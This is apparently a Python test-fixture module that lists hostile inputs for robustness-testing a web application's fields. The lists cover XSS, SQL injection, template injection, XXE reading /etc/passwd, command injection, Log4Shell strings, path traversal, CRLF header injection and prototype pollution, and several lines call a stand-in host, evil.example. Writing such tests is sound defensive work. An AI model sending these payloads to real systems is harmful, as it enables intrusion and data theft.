"""Texts that have broken forms, databases, templates, logs and pages elsewhere. Each is sent in every field, as a form and as JSON."""

from __future__ import annotations

from typing import Any

SCRIPT = """
<script>alert(1)</script>
</textarea><script>alert(1)</script>
</TEXTAREA ><script>alert(1)</script>
</title><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert&#40;1)</script>
<svg><animate onbegin=alert(1) attributeName=x>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)">
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<form action="https://evil.example"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example)}</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<!--<script>alert(1)</script>-->
--><script>alert(1)</script>
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<plaintext>
<xmp><script>alert(1)</script>
<marquee onstart=alert(1)>x</marquee>
<scr<script>ipt>alert(1)</scr</script>ipt>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=//evil.example/x.js></script>
<script\\x20type="text/javascript">alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" autofocus onfocus="alert(1)" x="
javascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
"""

QUERY = """
' OR '1'='1
' OR 1=1 --
" OR ""="
'; DROP TABLE answer; --
'); DROP TABLE answer; --
1; DELETE FROM answer
1 UNION SELECT sql FROM sqlite_master
' UNION SELECT mark, day FROM receipt --
'; ATTACH DATABASE '/tmp/x' AS x; --
'; PRAGMA writable_schema = 1; --
'||(SELECT load_extension('/tmp/x'))||'
' AND randomblob(1000000000) --
admin'--
') OR ('a'='a
\\'; DROP TABLE answer; --
?1
:page
@page
$page
NULL
null
undefined
NaN
Infinity
-0
1e309
0x7
07
1,5
true
{"$gt": ""}
{"$ne": null}
"""

TEMPLATE = """
{{ 7*7 }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config }}
{{ self.__init__.__globals__ }}
{{ request.app.state.storage }}
{% for x in range(10) %}x{% endfor %}
{% include "/etc/passwd" %}
{# x #}
{{
}}
{%
${7*7}
#{7*7}
<%= 7*7 %>
<?php phpinfo(); ?>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
%s%s%s%n
%(page)s
{page}
{0.__class__}
$(id)
`id`
; id
| id
&& id
!!python/object/apply:os.system ["id"]
*anchor
&anchor x
--- x
${jndi:ldap://evil.example/x}
() { :;}; id
=1+1
=HYPERLINK("https://evil.example")
@SUM(1)
+1+1
-1+1
[x](javascript:alert(1))
![x](https://evil.example/x.png)
"""

PATH = """
../../../../etc/passwd
..\\..\\..\\windows\\win.ini
....//....//etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%c0%af..%c0%afetc/passwd
/etc/passwd
file:///etc/passwd
//evil.example/
\\\\evil.example\\x
https://evil.example/
https:evil.example
/\\evil.example
tiltak/hmn-1/../../
tiltak/hmn-1/?x=1
tiltak/hmn-1/#x
tiltak/hmn-1
TILTAK/HMN-1/
tiltak/hmn-1/' --
tiltak//hmn-1/
./tiltak/hmn-1/
tiltak/hmn‐1/
CON
nul
.git/config
.env
"""

NAME = """
__proto__
constructor
prototype
toString
hasOwnProperty
__class__
__dict__
__init__
__globals__
valueOf
length
then
self
None
True
side
answer
"""

UNICODE = [
    "\x00",
    "a\x00b",
    "\x01\x02\x03\x1b[31mrød\x1b[0m",
    "\x7f\x80\x9f",
    "\u202efdp.exe",
    "\u2066skjult\u2069",
    "\u200b\u200c\u200d\ufeff",
    "\ufeffmerke først",
    "\ufffe\uffff",
    "\U0010ffff",
    "\ue000",
    "e" + "\u0301" * 500,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "ﷺ" * 100,
    "İıſK",
    "ß" * 100,
    "ﬀﬁ½①",
    "𝓢𝓬𝓻𝓲𝓹𝓽",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "\u2028\u2029\u0085",
    "العربية עברית",
    "தமிழ் ไทย 日本語",
    "\udbff",
    "\udc00\ud800",
    "Ã¥ Ã¸ Ã¦",
    "\r\nSet-Cookie: x=1",
    "x\r\nLocation: https://evil.example",
    "x\nX-Header: y\n\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie:%20x=1",
    "\u560d\u560aSet-Cookie: x=1",
    "x\u000bx\u000cx",
    "\t\t\t",
    "\n" * 100,
    " " * 1000,
    "a" * 2000,
    "a" * 2001,
    "å" * 2000,
    "<" * 2000,
    "&" * 2000,
    '"' * 2000,
    "(" * 2000,
    "((((a+)+)+)+)+" + "a" * 60 + "!",
    "1 " * 1000,
    "12 " * 600,
    "1-" * 1000,
    "+" + "1" * 1999,
    "a@" * 1000,
    "a." * 600 + "@",
    "a@" + "a." * 600,
    "00" * 1000,
    "22 33 44 " * 200,
]

VALUES: list[Any] = [  # only JSON can say these
    None,
    True,
    False,
    0,
    -1,
    11,
    1.5,
    -0.0,
    1e308,
    float("nan"),
    float("inf"),
    10**400,
    [],
    {},
    [[[[[[[[[[]]]]]]]]]],
    {"a": {"b": {"c": {"d": {}}}}},
    ["7"],
    {"__proto__": {"admin": True}},
    {"constructor": {"prototype": {}}},
    {"$gt": ""},
    {"toString": "x", "length": 1},
    ["<script>alert(1)</script>"],
    {"<script>": "alert(1)"},
]

TEXTS = [line for block in (SCRIPT, QUERY, TEMPLATE, PATH, NAME) for line in block.splitlines() if line] + UNICODE
FIELDS = ("side", "versjon", "slag", "nokkel", "relevans", "brukt", "funnet", "rolle", "region", "savnet", "nettside", "sekunder")
